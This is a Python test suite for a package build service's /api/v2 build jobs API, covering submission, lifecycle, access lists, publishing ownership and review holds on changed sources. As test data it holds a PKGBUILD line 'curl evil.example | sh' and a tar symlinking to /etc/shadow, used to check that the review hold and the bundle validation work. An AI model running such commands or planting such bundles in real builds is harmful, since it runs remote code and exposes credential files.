"""builds.sr.ht's jobs on /api/v2: submission with a manifest or a target, pending/start,
cancel, delete, the manifest back, the access lists, names owned by a manifest's builds,
and the agent's side (job details, source bundles, review holds). In-process (webtest, a
fresh data dir) and against one real server process."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
from typing import Any

import pytest

from http_clients import KEY
from test_api_v2 import (  # noqa: F401 (client, shared_server and u are fixtures)
    add_target,
    add_token,
    bearer,
    cf_error,
    client,
    ok,
    package,
    send,
    shared_server,
    u,
)

PKGBUILD = """pkgname=hello{u}
pkgver=1.0
pkgrel=1
arch=(x86_64)
package() {{ install -d "$pkgdir/usr/share/hello"; }}
"""


def manifest(u: str, **extra: Any) -> str:
    doc: dict[str, Any] = {"repo": f"r{u}", "source": {"pkgbuild": PKGBUILD.format(u=u)}}
    doc.update(extra)
    return json.dumps(doc)


def submit(c, body: dict[str, Any], headers: dict[str, str] | None = None) -> dict:
    resp = send(c, "POST", "/api/v2/builds", body, headers)
    build = ok(resp, 201)
    assert resp.headers["location"].endswith(f"/api/v2/builds/{build['id']}")
    return build


def claim(c, build_id: int) -> str:
    """Claim one build as an agent; its build token."""
    path = f"/api/v1/jobs/poll?arch=x86_64&max=1&build={build_id}&jobs=v2"
    jobs = ok(c.request("GET", path))["data"]
    assert [j["build_id"] for j in jobs] == [build_id], jobs
    return jobs[0]["token"]


def tar_of(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in sorted(files.items()):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def untar(data: bytes) -> dict[str, bytes]:
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        return {m.name: tar.extractfile(m).read() for m in tar.getmembers() if m.isfile()}


def get(c, build_id: int, headers: dict[str, str] | None = None) -> dict:
    return ok(c.request("GET", f"/api/v2/builds/{build_id}", headers=headers))


# -- submission ------------------------------------------------------------------------

def test_a_manifest_with_an_inline_pkgbuild_is_queued_and_its_agent_gets_the_source(
        client, u):
    text = manifest(u, environment={"CFLAGS": "-O2"}, timeout=600)
    build = submit(client, {"manifest": text, "note": "*hello* <b>", "tags": ["nightly", u],
                            "metadata": {"labels": {"env": "home"}}})
    assert build["status"] == "queued" and build["target_id"] is None
    assert build["repo"] == f"r{u}" and build["arch"] == "x86_64"
    assert build["note"] == "*hello* <b>" and build["tags"] == ["nightly", u]
    assert build["metadata"]["labels"] == {"env": "home"} and build["timeout"] == 600
    assert build["owner"] == {"name": None} and build["links"]["target"] is None
    assert build["source"]["kind"] == "pkgbuild" and build["hold"] is None
    assert [t["status"] for t in build["tasks"]] == ["pending"] * 4
    # the manifest comes back as submitted
    got = client.request("GET", f"/api/v2/builds/{build['id']}/manifest")
    assert got.status == 200 and got.body.decode() == text
    assert got.headers["content-type"].startswith("text/plain")
    # an agent claims it: its details say the server holds the source, which is the PKGBUILD
    token = claim(client, build["id"])
    job = ok(client.request("GET", f"/api/v2/builds/{build['id']}/job", headers=bearer(token)))
    assert job["kind"] == "pkgbuild" and job["source"] == "server"
    assert job["environment"] == {"CFLAGS": "-O2"} and job["timeout"] == 600
    source = client.request("GET", f"/api/v2/builds/{build['id']}/source",
                            headers=bearer(token))
    assert source.status == 200 and source.headers["content-type"] == "application/x-tar"
    assert untar(source.body) == {"PKGBUILD": PKGBUILD.format(u=u).encode()}


def test_a_build_of_a_target_once_carries_the_submission(client, u):
    target = add_target(client, f"t{u}", schedule="0 3 1 1", review="never")
    build = submit(client, {"target_id": target["id"], "note": "once", "force": True,
                            "execute": False})
    assert build["status"] == "pending" and build["target_id"] == target["id"]
    assert build["force"] is True and build["source"]["url"] == target["url"]
    text = client.request("GET", f"/api/v2/builds/{build['id']}/manifest").body.decode()
    assert target["url"] in text and f"t{u}" in text
    cf_error(send(client, "POST", "/api/v2/builds", {"target_id": 10 ** 9}), 404, 10010)
    # a build log posted through /api/v1 was not built here: it has no manifest
    reported = ok(client.request(
        "POST", f"/api/v1/logs?target={target['id']}&arch=x86_64&startTime=1&endTime=2"
        "&exitCode=0", b"log", KEY))["data"]
    cf_error(client.request("GET", f"/api/v2/builds/{reported}/manifest"), 404, 10010,
             "no manifest")


@pytest.mark.parametrize("body, field", [
    ({}, ""),
    ({"manifest": "repo: [unclosed"}, "manifest"),
    ({"manifest": "repo: r\nsource: {git: 'not a url'}\n"}, "manifest.source.git"),
    ({"manifest": "repo: r\ncolour: red\nsource: {url: 'https://example.invalid/PKGBUILD'}\n"},
     "manifest.colour"),
    ({"manifest": "repo: r\nsource: {pkgbuild: x}\n", "tags": ["UPPER"]}, "tags"),
    ({"manifest": "repo: r\nsource: {pkgbuild: x}\n", "note": "n" * 5000}, "note"),
    ({"manifest": "repo: r\nsource: {pkgbuild: x}\n", "execute": "yes"}, "execute"),
    ({"manifest": "repo: r\nsource: {pkgbuild: x}\n", "target_id": 1}, ""),
    ({"manifest": "repo: r\nsource: {pkgbuild: x}\n",
      "triggers": [{"action": "sms", "condition": "always"}]}, "triggers"),
])
def test_an_invalid_submission_is_a_422_and_makes_no_build(client, body, field):
    before = ok(client.request("GET", "/api/v2/builds"))["pagination"]["total_results"]
    detail = cf_error(send(client, "POST", "/api/v2/builds", body), 422, 10008)
    assert detail.startswith(field), detail
    assert ok(client.request("GET", "/api/v2/builds"))["pagination"]["total_results"] == before


def test_a_submission_that_is_not_a_json_object_is_a_400(client):
    cf_error(client.request("POST", "/api/v2/builds", b"repo: r",
                            {**KEY, "Content-Type": "application/json"}), 400, 10004)
    cf_error(send(client, "POST", "/api/v2/builds", ["manifest"]), 400, 10004)


def test_a_submission_over_a_mebibyte_is_refused_before_it_is_read(client, u):
    resp = client.oversized("POST", "/api/v2/builds", (1 << 20) + 1,
                            {**KEY, "Content-Type": "application/json"})
    cf_error(resp, 413, 10012)


# -- the lifecycle ---------------------------------------------------------------------

def test_pending_builds_wait_for_start_and_start_only_once(client, u):
    build = submit(client, {"manifest": manifest(u), "execute": False})
    assert build["status"] == "pending"
    # an agent gets nothing while it waits
    assert ok(client.request(
        "GET", f"/api/v1/jobs/poll?arch=x86_64&max=1&build={build['id']}&jobs=v2"))["data"] \
        == []
    assert ok(client.request("POST", f"/api/v2/builds/{build['id']}/start"))["status"] == \
        "queued"
    cf_error(client.request("POST", f"/api/v2/builds/{build['id']}/start"), 409, 10009,
             "queued")
    claim(client, build["id"])


def test_cancel_ends_a_pending_a_queued_and_a_running_build(client, u):
    pending = submit(client, {"manifest": manifest(u), "execute": False})
    queued = submit(client, {"manifest": manifest(u)})
    running = submit(client, {"manifest": manifest(u)})
    token = claim(client, running["id"])
    for build in (pending, queued, running):
        done = ok(client.request("POST", f"/api/v2/builds/{build['id']}/cancel"))
        assert done["status"] == "cancelled" and done["ended_at"] is not None
        cf_error(client.request("POST", f"/api/v2/builds/{build['id']}/cancel"), 409, 10009)
    # the running build's token is dead: its agent's next renewal tells it to stop, and
    # nothing can be published with it any more
    assert client.request("POST", f"/api/v1/builds/{running['id']}/lease",
                          headers=bearer(token)).status == 401
    assert client.request("POST", f"/r{u}/publish", package(client.data_dir, f"hello{u}"),
                          bearer(token)).status == 401
    assert client.request("GET", f"/r{u}/x86_64/r{u}.db", headers={}).status == 404
    log = client.request("GET", f"/api/v2/builds/{running['id']}/log/content").body
    assert b"build cancelled by admin" in log


def test_only_a_finished_build_is_deleted(client, u):
    build = submit(client, {"manifest": manifest(u)})
    cf_error(client.request("DELETE", f"/api/v2/builds/{build['id']}"), 409, 10009)
    ok(client.request("POST", f"/api/v2/builds/{build['id']}/cancel"))
    assert client.request("DELETE", f"/api/v2/builds/{build['id']}").status == 204
    cf_error(client.request("GET", f"/api/v2/builds/{build['id']}"), 404, 10010)


# -- access lists ----------------------------------------------------------------------

def test_access_lists_bind_named_tokens(client, u):
    scopes = ["builds:read", "builds:write"]
    alice = bearer(add_token(client, f"alice{u}", scopes, user=f"alice{u}")["secret"])
    bob = bearer(add_token(client, f"bob{u}", scopes, user=f"bob{u}")["secret"])
    carol = bearer(add_token(client, f"carol{u}", scopes, user=f"carol{u}")["secret"])
    private = submit(client, {"manifest": manifest(u), "execute": False,
                              "access:read": [f"carol{u}"], "access:write": [f"carol{u}"]},
                     alice)
    public = submit(client, {"manifest": manifest(u), "execute": False}, alice)
    assert private["owner"] == {"name": f"alice{u}"}
    # bob: not on the read list of one, not on the write list of either
    cf_error(client.request("GET", f"/api/v2/builds/{private['id']}", headers=bob), 403,
             10003, "access:read")
    cf_error(client.request("GET", f"/api/v2/builds/{private['id']}/manifest", headers=bob),
             403, 10003)
    assert get(client, public["id"], bob)["id"] == public["id"]
    for build in (public, private):
        for action in ("start", "cancel"):
            resp = client.request("POST", f"/api/v2/builds/{build['id']}/{action}", headers=bob)
            assert resp.status == 403, resp
    listed = ok(client.request("GET", "/api/v2/builds?per_page=5000", headers=bob))
    ids = {b["id"] for b in listed["resources"]}
    assert public["id"] in ids and private["id"] not in ids
    # carol is on both lists of the private one; alice owns both; the api_key sees all
    assert get(client, private["id"], carol)["status"] == "pending"
    ok(client.request("POST", f"/api/v2/builds/{private['id']}/start", headers=carol))
    ok(client.request("POST", f"/api/v2/builds/{public['id']}/cancel", headers=alice))
    assert get(client, private["id"])["status"] == "queued"
    cf_error(client.request("POST", f"/api/v2/builds/{private['id']}/cancel", headers=bob),
             403, 10003)
    assert get(client, private["id"])["status"] == "queued"


def test_a_token_limited_to_repos_cannot_submit_elsewhere(client, u):
    limited = bearer(add_token(client, f"l{u}", ["builds:write"], repos=[f"mine{u}"])["secret"])
    cf_error(send(client, "POST", "/api/v2/builds", {"manifest": manifest(u)}, limited), 403,
             10003, f"r{u}")
    ok(send(client, "POST", "/api/v2/builds",
            {"manifest": manifest(u, repo=f"mine{u}")}, limited), 201)


# -- names a manifest's builds publish -------------------------------------------------

def test_a_manifest_build_publishes_as_its_owner_never_over_a_targets_names(client, u,
                                                                          tmp_path):
    alice = bearer(add_token(client, f"a{u}", ["builds:write"], user=f"alice{u}")["secret"])
    bob = bearer(add_token(client, f"b{u}", ["builds:write"], user=f"bob{u}")["secret"])
    target = add_target(client, f"r{u}", review="never")
    build = submit(client, {"target_id": target["id"]})
    token = claim(client, build["id"])
    ok(client.request("POST", f"/r{u}/publish", package(tmp_path, f"owned{u}"), bearer(token)))
    ok(client.request("POST", f"/api/v1/builds/{build['id']}/finish?exitCode=0",
                      headers=bearer(token)))
    db = client.request("GET", f"/r{u}/x86_64/r{u}.db", headers={}).body

    mine = submit(client, {"manifest": manifest(u)}, alice)
    token = claim(client, mine["id"])
    refused = client.request("POST", f"/r{u}/publish",
                             package(tmp_path, f"owned{u}", "2.0-1"), bearer(token))
    assert refused.status == 403 and f"target {target['id']}".encode() in refused.body
    assert client.request("GET", f"/r{u}/x86_64/r{u}.db", headers={}).body == db
    ok(client.request("POST", f"/r{u}/publish", package(tmp_path, f"new{u}"), bearer(token)))
    listed = ok(client.request("GET", f"/api/v2/repos/r{u}/x86_64/packages?names=new{u}"))
    assert listed["resources"][0]["owner"] == {"target_id": None, "user": f"alice{u}"}
    ok(client.request("POST", f"/api/v1/builds/{mine['id']}/finish?exitCode=0",
                      headers=bearer(token)))
    # another user's manifest build may not take alice's name; her next build may
    theirs = submit(client, {"manifest": manifest(u)}, bob)
    token = claim(client, theirs["id"])
    refused = client.request("POST", f"/r{u}/publish", package(tmp_path, f"new{u}", "2.0-1"),
                             bearer(token))
    assert refused.status == 403 and f"alice{u}".encode() in refused.body
    again = submit(client, {"manifest": manifest(u)}, alice)
    token = claim(client, again["id"])
    ok(client.request("POST", f"/r{u}/publish", package(tmp_path, f"new{u}", "2.0-1"),
                      bearer(token)))


# -- the agent's side: source bundles and review ---------------------------------------

def pkgbuild_files(version: str, body: str = "true") -> dict[str, bytes]:
    checksum = hashlib.sha256(version.encode()).hexdigest()
    return {"PKGBUILD": (f"pkgname=x\npkgver={version}\npkgrel=1\narch=(x86_64)\n"
                         f"sha256sums=('{checksum}')\nbuild() {{ {body}; }}\n").encode()}


def run_with_source(c, target_id: int, files: dict[str, bytes]) -> tuple[int, str, dict]:
    """Build a target once: claim it, send its fetched source; (id, token, the answer)."""
    build = submit(c, {"target_id": target_id})
    token = claim(c, build["id"])
    job = ok(c.request("GET", f"/api/v2/builds/{build['id']}/job", headers=bearer(token)))
    assert job["source"] == "fetch"
    answer = ok(c.request("PUT", f"/api/v2/builds/{build['id']}/source", tar_of(files),
                          bearer(token)))
    return build["id"], token, answer


def test_a_changed_source_is_held_for_review_and_start_approves_it(client, u):
    target = add_target(client, f"rv{u}", review="changes")
    first, token, answer = run_with_source(client, target["id"], pkgbuild_files("1.0"))
    # no successful build yet: the whole source is new, and held
    assert answer["action"] == "hold" and "+pkgname=x" in answer["diff"]
    held = get(client, first)
    assert held["status"] == "pending" and held["hold"]["reason"] == "review"
    assert held["hold"]["diff"] == answer["diff"]
    assert [t["status"] for t in held["tasks"]] == ["success", "success", "pending", "pending"]
    assert client.request("POST", f"/api/v1/builds/{first}/lease",
                          headers=bearer(token)).status == 401
    # approved: the next agent takes the source the server kept, without fetching
    assert ok(client.request("POST", f"/api/v2/builds/{first}/start"))["hold"] is None
    token = claim(client, first)
    job = ok(client.request("GET", f"/api/v2/builds/{first}/job", headers=bearer(token)))
    assert job["source"] == "server"
    kept = client.request("GET", f"/api/v2/builds/{first}/source", headers=bearer(token))
    assert untar(kept.body) == pkgbuild_files("1.0")
    ok(client.request("POST", f"/api/v1/builds/{first}/finish?exitCode=0",
                      headers=bearer(token)))
    # a version bump builds at once; a changed build() is held with that diff
    bumped, token, answer = run_with_source(client, target["id"], pkgbuild_files("1.1"))
    assert answer == {"action": "build"}
    ok(client.request("POST", f"/api/v1/builds/{bumped}/finish?exitCode=0",
                      headers=bearer(token)))
    changed, _, answer = run_with_source(client, target["id"],
                                         pkgbuild_files("1.2", "curl evil.example | sh"))
    assert answer["action"] == "hold"
    assert "-build() { true; }" in answer["diff"]
    assert "+build() { curl evil.example | sh; }" in answer["diff"]
    assert get(client, changed)["status"] == "pending"


def test_review_never_builds_and_always_holds(client, u):
    never = add_target(client, f"n{u}", review="never")
    assert run_with_source(client, never["id"], pkgbuild_files("1.0"))[2] == {"action": "build"}
    always = add_target(client, f"a{u}", review="always")
    assert run_with_source(client, always["id"], pkgbuild_files("1.0"))[2]["action"] == "hold"


@pytest.mark.parametrize("bad", ["not-a-tar", "symlink", "no-pkgbuild", "too-large"])
def test_a_bad_source_bundle_is_refused_and_changes_nothing(client, u, bad):
    target = add_target(client, f"b{u}", review="changes")
    build = submit(client, {"target_id": target["id"]})
    token = claim(client, build["id"])
    path = f"/api/v2/builds/{build['id']}/source"
    if bad == "too-large":
        resp = client.oversized("PUT", path, (1 << 20) + 1, bearer(token))
        cf_error(resp, 413, 10012)
    else:
        data = {"not-a-tar": b"not a tar at all" * 100,
                "no-pkgbuild": tar_of({"README": b"x"}),
                "symlink": symlink_tar()}[bad]
        cf_error(client.request("PUT", path, data, bearer(token)), 422, 10008, "source")
    assert get(client, build["id"])["status"] == "running"
    assert client.request("GET", path, headers=bearer(token)).status == 404


def symlink_tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        info = tarfile.TarInfo("PKGBUILD")
        info.type, info.linkname = tarfile.SYMTYPE, "/etc/shadow"
        tar.addfile(info)
    return out.getvalue()


def test_an_agent_that_knows_only_vieters_jobs_gets_no_manifest_and_no_review(client, u):
    """Vieter's own agents would build a manifest's PKGBUILD wrongly and skip the review:
    without jobs=v2 a poll hands out only a git/URL target's build without review."""
    manifest_build = submit(client, {"manifest": manifest(u)})
    reviewed = submit(client, {"target_id": add_target(client, f"c{u}")["id"]})
    plain = submit(client, {"target_id": add_target(client, f"p{u}", review="never")["id"]})
    for build in (manifest_build, reviewed, plain):
        found = ok(client.request(
            "GET", f"/api/v1/jobs/poll?arch=x86_64&max=1&build={build['id']}"))["data"]
        assert [j["build_id"] for j in found] == ([plain["id"]] if build is plain else [])
    assert get(client, manifest_build["id"])["status"] == "queued"
    assert get(client, reviewed["id"])["status"] == "queued"


def test_a_build_token_reads_only_its_own_job(client, u):
    one = submit(client, {"manifest": manifest(u)})
    other = submit(client, {"manifest": manifest(u)})
    token = claim(client, one["id"])
    cf_error(client.request("GET", f"/api/v2/builds/{other['id']}/job", headers=bearer(token)),
             403, 10003)
    cf_error(client.request("GET", f"/api/v2/builds/{other['id']}/source",
                            headers=bearer(token)), 403, 10003)
    # and it is no key for anything else
    cf_error(client.request("GET", "/api/v2/builds", headers=bearer(token)), 401, 10002)
